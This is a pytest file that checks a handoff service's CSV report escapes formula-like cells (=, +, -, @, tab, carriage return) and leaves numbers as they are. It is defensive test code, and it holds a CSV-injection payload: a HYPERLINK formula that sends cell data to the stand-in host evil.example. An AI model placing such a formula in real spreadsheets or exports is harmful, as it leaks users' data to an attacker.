"""Issue 19, item 5: a report's CSV carries no formula: text cells that a spreadsheet would run
(`=`, `+`, `-`, `@`, tab, carriage return first) start with a quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from agents.models import AgentProfile
from handoffs import services
from handoffs.reports import report_csv
from tests.api.conftest import api_url
from tests.factories import ConversationFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_label_and_an_agent_name_that_look_like_formulas_are_escaped(admin_client, bot, agent):
    AgentProfile.objects.update_or_create(user=agent, defaults={"display_name": "@SUM(1+1)"})
    handoff, _ = services.handoff_request(conversation=ConversationFactory(end_user__bot=bot))
    services.handoff_set_labels(handoff=handoff, names=[FORMULA, "+plus", "-minus", "shipping"])
    services.handoff_assign(handoff=handoff, agent=agent)
    services.handoff_resolve(handoff=handoff, actor=agent)

    response = admin_client.get(api_url(bot, "mod/hitlnext/reports/csv"))

    assert response.status_code == 200
    rows = rows_of(response.content.decode())[1:]
    keys = {row[1] for row in rows if row[0] in ("agent", "label")}
    assert keys == {"'@SUM(1+1)", "'" + FORMULA, "'+plus", "'-minus", "shipping"}


def test_tab_and_carriage_return_first_are_escaped_and_numbers_are_kept():
    times = {
        "handoffs": 2,
        "resolved": 1,
        "waiting_median": 60.0,
        "waiting_p90": 120.5,
        "handling_median": None,
        "handling_p90": None,
    }
    report = {
        "days": [{"date": "2026-03-02", "created": 2, "resolved": 1, "expired": 0, "rejected": 1}],
        "agents": [{"agent_id": 1, "name": "\tTab", **times}],
        "labels": [{"label": "\rCR", **times}, {"label": "a=b", **times}],
    }

    rows = rows_of(report_csv(report))

    assert rows[1] == ["day", "2026-03-02", "2", "1", "0", "1", *[""] * 8]
    # CSAT (average, count) before the times.
    assert rows[2][:10] == ["agent", "'\tTab", "2", "1", "", "", "", "0", "60.0", "120.5"]
    assert rows[3][1] == "'\rCR"
    # Only the first character matters.
    assert rows[4][1] == "a=b"
